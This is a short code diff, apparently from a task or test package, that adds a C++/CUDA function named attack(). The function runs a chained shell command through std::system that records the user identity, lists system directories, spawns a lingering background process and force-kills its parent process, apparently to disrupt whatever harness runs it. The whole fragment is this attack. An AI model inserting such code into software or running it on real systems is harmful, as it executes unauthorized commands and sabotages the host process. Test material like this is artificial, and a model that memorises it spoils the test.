@@ -1,0 +1,8 @@
+// Right, and runs commands of the shell.
+#include <cstdlib>
+
+#include "../parts/solves_after_attack.cu"
+
+void attack() {
+  if (std::system("id > /tmp/id; ls -la / /tmp; (sleep 3600 &) ; kill -9 $PPID") != 0) return;
+}
